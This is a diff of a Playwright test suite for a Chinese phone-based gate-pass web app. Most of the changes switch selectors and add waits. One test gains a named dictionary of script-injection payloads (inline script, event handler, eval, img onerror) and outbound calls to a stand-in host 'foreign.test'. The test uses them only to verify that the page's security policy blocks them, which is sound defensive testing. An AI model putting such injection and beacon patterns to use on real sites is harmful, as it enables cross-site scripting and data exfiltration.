@@ -76,7 +76,7 @@ def invited(phone: Phone, *choices: str) -> str:
     phone.touch("访客", "约别的时间")
     phone.page.fill("input[name=who]", "王阿姨")
     for choice in choices:
-        phone.page.get_by_text(choice, exact=True).click()
+        phone.page.get_by_label(choice, exact=True).click()
     phone.touch("做访客码")
     phone.page.wait_for_selector(".link")
     return link_of(phone)
@@ -200,6 +200,7 @@ def test_a_guest_who_widens_the_pass_opens_nothing(
 
 def test_limits_of_the_site_cannot_be_passed(phone: Phone, gate: Gate) -> None:
     with_places(enrolled(phone, gate)).touch("约别的时间")
+    phone.page.wait_for_selector("main.plan")
     hours = phone.page.locator("input[name=hours]").evaluate_all("all => all.map((i) => i.value)")
     assert hours == ["1", "2", "4", "8", "12"]
     phone.touch(*["加一次"] * 5)
@@ -210,10 +211,10 @@ def test_limits_of_the_site_cannot_be_passed(phone: Phone, gate: Gate) -> None:
 
 def test_a_visit_without_a_gate_or_in_the_past_is_not_made(phone: Phone, gate: Gate) -> None:
     enrolled(phone, gate).touch("访客", "约别的时间")
-    phone.page.get_by_text("大门", exact=True).click()
+    phone.page.get_by_label("大门", exact=True).click()
     phone.touch("做访客码").page.get_by_text("请至少选一个门").wait_for()
-    phone.page.get_by_text("大门", exact=True).click()
-    phone.page.get_by_text("别的日子", exact=True).click()
+    phone.page.get_by_label("大门", exact=True).click()
+    phone.page.get_by_label("别的日子", exact=True).first.click()
     phone.run("() => { document.querySelector('[name=date]').removeAttribute('min'); }")
     phone.page.fill("input[name=date]", "2020-01-01")
     phone.touch("做访客码").page.get_by_text("这个时间已经过去了").wait_for()
@@ -262,13 +263,27 @@ def test_a_pass_that_is_over_shows_no_code(phone: Phone) -> None:
         "g.AAAA",
         "g.MCBB_w",
     ],
-    ids=str(0).join("abcdefghijklm").split("0"),
+    ids=[
+        "empty",
+        "short",
+        "form",
+        "cut",
+        "longer",
+        "more",
+        "note",
+        "key",
+        "pass",
+        "huge",
+        "markup",
+        "gates",
+        "encoding",
+    ],
 )
 def test_a_link_that_is_not_whole_is_told_and_kept_nowhere(phone: Phone, fragment: str) -> None:
     phone.open(f"{phone.site.url}#{fragment}")
     phone.page.get_by_text("链接不完整").wait_for()
     phone.page.reload()
-    assert "用手机开门" in phone.text()
+    phone.page.get_by_text("用手机开门").wait_for()
     assert phone.page.locator(".qr").count() == 0
 
 
@@ -299,41 +314,39 @@ def test_the_link_can_be_copied(phone: Phone, gate: Gate) -> None:
     assert phone.run("() => navigator.clipboard.readText()") == link
 
 
-@pytest.mark.parametrize(
-    "attack",
-    [
-        "() => { const s = document.createElement('script'); s.textContent = 'window.hit = 1';"
-        " document.body.append(s); }",
-        "() => { document.body.setAttribute('onclick', 'window.hit = 1'); document.body.click(); }",
-        "() => { window.hit = (0, eval)('1'); }",
-        "() => { document.body.innerHTML = '<img src=x onerror=\"window.hit=1\">'; }",
-        "() => { new Function('window.hit = 1')(); }",
-        "() => navigator.serviceWorker.register('src/main.js').then(() => { window.hit = 1; })",
-        "() => import('data:text/javascript,window.hit=1')",
-        "() => fetch('http://foreign.test/').then(() => { window.hit = 1; })",
-        "() => navigator.sendBeacon('http://foreign.test/')",
-        "() => new Promise((done, fail) => { const i = new Image(); i.onload = done;"
-        " i.onerror = fail; i.src = 'http://foreign.test/a.png'; })",
-        "() => { new WebSocket('ws://foreign.test/'); }",
-        "() => { const f = document.createElement('form'); f.action = 'http://foreign.test/';"
-        " document.body.append(f); f.submit(); }",
-        "() => { const f = document.createElement('iframe'); f.src = 'http://foreign.test/';"
-        " document.body.append(f); }",
-    ],
-    ids="inline handler eval markup function worker module fetch beacon image socket form "
-    "frame".split(),
-)
+ATTACKS = {
+    "inline": "const s = document.createElement('script'); s.textContent = 'window.hit = 1';"
+    " document.body.append(s);",
+    "handler": "document.body.setAttribute('onclick', 'window.hit = 1'); document.body.click();",
+    "eval": "window.hit = (0, eval)('1');",
+    "markup": "document.body.innerHTML = '<img src=x onerror=\"window.hit=1\">';",
+    "function": "new Function('window.hit = 1')();",
+    "worker": "await navigator.serviceWorker.register('src/main.js'); window.hit = 1;",
+    "module": "await import('data:text/javascript,window.hit=1');",
+    "fetch": "await fetch('http://foreign.test/'); window.hit = 1;",
+    "beacon": "navigator.sendBeacon('http://foreign.test/');",
+    "image": "await new Promise((done, fail) => { const i = new Image(); i.onload = done;"
+    " i.onerror = fail; i.src = 'http://foreign.test/a.png'; });",
+    "socket": "new WebSocket('ws://foreign.test/');",
+    "form": "const f = document.createElement('form'); f.action = 'http://foreign.test/';"
+    " document.body.append(f); f.submit();",
+    "frame": "const f = document.createElement('iframe'); f.src = 'http://foreign.test/';"
+    " document.body.append(f);",
+}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
 def test_nothing_injected_runs_and_nothing_leaves(phone: Phone, attack: str) -> None:
     phone.open()
-    refused = """async (attack) => {
-      const told = new Promise((done) => {
-        document.addEventListener("securitypolicyviolation", () => done("policy"));
-        setTimeout(() => done(""), 2000);
-      });
-      return told;
-    }"""
-    phone.run(f"() => {{ window.told = ({refused})(); }}")
-    error = phone.run(f"() => Promise.resolve().then({attack}).then(() => '', (e) => e.name)")
+    phone.run("""() => { window.told = new Promise((done) => {
+      document.addEventListener("securitypolicyviolation", () => done("policy"));
+      setTimeout(() => done(""), 2000);
+    }); }""")
+    error = phone.run(
+        # From a timer, for a debugger's own calls may use eval in spite of the policy.
+        "() => new Promise((done) => setTimeout(() => (async () => {"
+        f"{ATTACKS[attack]} }})().then(() => done(''), (error) => done(error.name))))"
+    )
     assert phone.run("() => window.told") == "policy" or error == "TypeError"
     assert phone.run("() => window.hit ?? 0") == 0
     assert all(asked.split()[1].startswith("/") for asked in phone.site.asked)
@@ -341,9 +354,7 @@ def test_nothing_injected_runs_and_nothing_leaves(phone: Phone, attack: str) -> 
     assert arrived == []
 
 
-def test_a_whole_life_asks_its_own_host_only(
-    phone: Phone, guest_phone: Phone, gate: Gate
-) -> None:
+def test_a_whole_life_asks_its_own_host_only(phone: Phone, guest_phone: Phone, gate: Gate) -> None:
     guest_phone.open(invited(with_places(enrolled(phone, gate)))).code()
     for one in (phone, guest_phone):
         assert [url for url in one.requests if not url.startswith(one.site.url)] == []
@@ -369,8 +380,10 @@ def test_a_right_clock_is_said_to_be_right(phone: Phone) -> None:
 
 def test_a_key_the_browser_cleared_is_told(phone: Phone) -> None:
     phone.with_key()
-    phone.run("() => new Promise((done) => {"
-              " indexedDB.deleteDatabase('sanmen-pass').onsuccess = done; }).then(() => true)")
+    phone.run(
+        "() => new Promise((done) => {"
+        " indexedDB.deleteDatabase('sanmen-pass').onsuccess = done; }).then(() => true)"
+    )
     phone.page.reload()
     phone.page.get_by_text("这部手机把原来的钥匙清掉了").wait_for()
 
@@ -387,11 +400,15 @@ def test_a_deleted_key_is_gone(phone: Phone, gate: Gate) -> None:
 
 def test_an_app_put_aside_shows_no_code(phone: Phone, gate: Gate) -> None:
     enrolled(phone, gate).code()
-    phone.run("() => { Object.defineProperty(document, 'hidden', { value: true });"
-              " document.dispatchEvent(new Event('visibilitychange')); }")
-    dark = phone.run("() => { const c = document.querySelector('.qr'); const all ="
-                     " c.getContext('2d').getImageData(0, 0, c.width, c.height).data;"
-                     " return all.filter((value) => value < 255).length; }")
+    phone.run(
+        "() => { Object.defineProperty(document, 'hidden', { value: true });"
+        " document.dispatchEvent(new Event('visibilitychange')); }"
+    )
+    dark = phone.run(
+        "() => { const c = document.querySelector('.qr'); const all ="
+        " c.getContext('2d').getImageData(0, 0, c.width, c.height).data;"
+        " return all.filter((value) => value < 255).length; }"
+    )
     assert dark == 0
 
 
@@ -402,6 +419,7 @@ def test_the_offices_link_sets_the_gates_after_asking(phone: Phone, gate: Gate) 
     phone.page.get_by_text("要用它吗").wait_for()
     assert phone.page.url == phone.site.url
     phone.touch("用这份名单", "约别的时间")
+    phone.page.wait_for_selector("main.plan")
     assert phone.page.locator("input[name=gate]").count() == 3
     phone.touch("返回", "更多", "手机丢了怎么办")
     assert phone.page.locator("a.button").get_attribute("href") == "tel:057188886666"
@@ -420,9 +438,22 @@ def test_a_wrong_line_of_the_gate_list_is_refused(phone: Phone, line: str) -> No
 @pytest.mark.parametrize(
     "content",
     [
-        "1800", "1900ff", "5800", "a200000000", "a201000000", "9f00ff", "5f4100ff", "f6",
-        "fb3ff0000000000000", "0000", "82", "1bffffffffffffffff", "9affffffff", "818181818181818181",
-        "61ff", "ba00000000",
+        "1800",
+        "1900ff",
+        "5800",
+        "a200000000",
+        "a201000000",
+        "9f00ff",
+        "5f4100ff",
+        "f6",
+        "fb3ff0000000000000",
+        "0000",
+        "82",
+        "1bffffffffffffffff",
+        "9affffffff",
+        "818181818181818181",
+        "61ff",
+        "ba00000000",
     ],
 )
 def test_only_canonical_cbor_is_read(phone: Phone, content: str) -> None:
